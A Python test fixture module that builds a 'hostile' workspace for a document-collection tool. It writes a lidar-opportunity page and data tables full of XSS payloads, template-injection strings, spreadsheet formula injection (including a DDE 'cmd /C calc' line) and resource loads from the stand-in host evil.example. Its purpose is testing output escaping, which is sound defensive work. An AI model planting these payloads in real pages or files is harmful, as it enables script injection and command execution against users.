"""A workspace in which everything that comes from elsewhere is hostile: what is collected, what people write, files.

An edition is built from hostile pages, records of the casebook and decisions. Then every free text of its tables is made
hostile as well, so that pages are tried with what no reader would let through today.
"""

from __future__ import annotations

import shutil
from collections.abc import Sequence
from pathlib import Path

import duckdb

from attache.build.builder import build
from attache.build.edition import Edition, Editions
from attache.build.tables import TABLES
from attache.collect.evidence import Evidence
from attache.collect.files import collect_files
from attache.collect.sources import load_source
from attache.core.workspace import Workspace
from attache.ledger import Ledger
from attache.publish.watch.saved import Watch, add_watch
from attache.vocabulary.codebook import load_codebook
from attache.web.record import deciding

__all__ = ["ELSEWHERE", "MARKUP", "make_hostile"]

ELSEWHERE = "evil.example"
MARKUP = (
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror=\"window.pwned=1\">",
    "'><svg/onload='window.pwned=1'>",
    f"<img src=http://{ELSEWHERE}/p.png><link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=http://{ELSEWHERE}/'><base href=http://{ELSEWHERE}/>",
    f"<iframe src=http://{ELSEWHERE}/ srcdoc='<script>top.pwned=1</script>'></iframe>",
    f"<style>@import 'http://{ELSEWHERE}/y.css'; * {{ display: none }}</style>",
    "<a href='javascript:window.pwned=1' autofocus onfocus='window.pwned=1'>x</a>",
    f"</title></textarea></select></style><form action=http://{ELSEWHERE}/><input autofocus onfocus=alert(1)>",
    "{{ 7 * 7 }}{% for x in () %}${window.pwned=1}`${alert(1)}`",
    "\u202egnp.exe\u2066 right \u2067left\u200f",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;<!-- ]]> -->",
)  # fmt: skip
"""What takes effect where it is written into a page unescaped."""
FORMULAS = (
    f'=HYPERLINK("http://{ELSEWHERE}/","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1",
)  # fmt: skip
"""What a spreadsheet takes for a formula; also the beginning of names and titles."""

DECLARATION = """id: hostile
name: hostile pages
owner: tests
adapter: files
synthetic: true
settings: {path: hostile}
"""
PAGE = f"""<!doctype html><html><head><title>德国激光雷达项目</title>
<meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/"><base href="http://{ELSEWHERE}/">
<link rel="stylesheet" href="http://{ELSEWHERE}/x.css"><script src="http://{ELSEWHERE}/x.js"></script>
<style>@import url(http://{ELSEWHERE}/y.css); body {{ background: url(http://{ELSEWHERE}/z.png) }}</style>
</head><body onload="window.pwned=1"><h1>德国激光雷达项目</h1>
<p>据驻德国使馆科技处消息，德国 Lidarex GmbH 从事激光雷达研发，希望在中国寻找合作伙伴，开展合资生产或技术许可。2019年7月3日</p>
{"".join(MARKUP)}
<object data="http://{ELSEWHERE}/o.swf"></object><embed src="http://{ELSEWHERE}/e.swf">
<video src="http://{ELSEWHERE}/v.mp4" autoplay></video><img srcset="http://{ELSEWHERE}/s.png 2x">
<a href="http://{ELSEWHERE}/" ping="http://{ELSEWHERE}/ping" target="_top">further</a>
<script>top.location = "http://{ELSEWHERE}/"; parent.pwned = 1; alert(1)</script></body></html>"""

BEGINNING = {
    "title", "name", "name_zh", "name_en", "name_latin", "target", "organisation", "owner", "organisers", "alias",
    "counterpart", "statement", "series", "question", "searched", "query", "as_stated", "sought", "goal",
}  # fmt: skip
"""Columns that begin with a formula."""
END = {
    "text", "source", "note", "notes", "item_key", "technology", "city", "address", "programme", "domain", "failure",
    "refusal", "remarks", "message", "example", "quote", "published_reason", "mission_reason", "host_country_reason",
    "definition", "denominator", "media_type", "charset",
}  # fmt: skip
"""Columns with markup at their end; places in a text stay what they are."""
ADDRESSES = {"url"}


def _listed(texts: Sequence[str]) -> str:
    """Return SQL for one of the texts by the number of a row."""
    quoted = ", ".join("'" + text.replace("'", "''") + "'" for text in texts)
    return f"list_extract([{quoted}], cast(n % {len(texts)} as integer) + 1)"


_MARKUP, _FORMULA = _listed(MARKUP), _listed(FORMULAS)


def make_hostile(space: Workspace) -> Workspace:
    """Add hostile sources, records and decisions to a workspace, build it, and make its tables hostile."""
    _collected(space)
    _written_down(space)
    edition = build(space).edition
    _poisoned(edition)
    return space


def _collected(space: Workspace) -> None:
    folder = space.sources / "hostile"
    folder.mkdir()
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    for number, markup in enumerate(MARKUP):
        body = f"{FORMULAS[number % len(FORMULAS)]} 德国激光雷达{markup}\n\n德国{markup} GmbH 从事固态激光雷达研发。{markup}\n"
        (folder / f"{number:02}.txt").write_text(body, encoding="utf-8")
    (space.sources / "hostile.yaml").write_text(DECLARATION, encoding="utf-8")
    source = load_source(space.sources / "hostile.yaml")
    collect_files(source, Evidence(space.evidence), folder=space.sources, clock=lambda: "2021-01-01T00:00:00Z")


def _written_down(space: Workspace) -> None:
    """Let somebody decide and save hostile things: codes, translations, replies, a query that is watched."""
    con = Editions(space.editions).require().connect()
    subject, text = con.execute(
        "select opportunity_id, text from opportunities join documents using (document_id) order by 1 limit 1"
    ).fetchall()[0]
    con.close()
    ledger, markup = Ledger(space.ledger_url), " ".join(MARKUP)
    said = deciding.Asserted(subject, "stage", ("lab",), text[:4], markup[:300], False)
    deciding.code(ledger, said, text, load_codebook(space.codebook), "tester")
    deciding.translate(ledger, subject, markup, "en", MARKUP[1], MARKUP[2])
    kept = deciding.reply(ledger, subject, FORMULAS[0], markup, MARKUP[3])
    deciding.verdict(ledger, subject, kept.decision_id, "accepted", MARKUP[4], MARKUP[5])
    add_watch(ledger, Watch("hostile", words=markup[:400]), author=MARKUP[6])
    ledger.close()


def _poisoned(edition: Edition) -> None:
    """Rewrite the edition's tables; its search index, which is derived, is made again when it is opened."""
    con = duckdb.connect()
    for name in TABLES:
        for part in edition.manifest["tables"][name]["parts"]:
            _rewritten(con, edition.folder(name) / part["file"])
    shutil.rmtree(edition.path / "search")


def _rewritten(con: duckdb.DuckDBPyConnection, file: Path) -> None:
    columns = [row[0] for row in con.execute(f"describe from '{file}'").fetchall() if row[1] == "VARCHAR"]
    new = {column: said for column in columns if (said := _said(column))}
    if not new:
        return
    draft = file.with_suffix(".draft")
    replaced = ", ".join(f'{said} as "{column}"' for column, said in new.items())
    rows = f"select *, row_number() over () as n from '{file}'"
    con.execute(
        f"copy (select * exclude (n) replace ({replaced}) from ({rows})) to '{draft}' (format parquet)"
    ).fetchall()
    draft.replace(file)


def _said(column: str) -> str | None:
    """Return what a column is to say, as SQL over its value and the number `n` of its row; nulls stay."""
    if column in ADDRESSES:
        return f'case n % 2 when 0 then \'javascript:window.pwned=1//\' || "{column}" else "{column}" || {_MARKUP} end'
    if column in BEGINNING:
        return f'{_FORMULA} || "{column}" || {_MARKUP}'
    return f'"{column}" || {_MARKUP}' if column in END else None
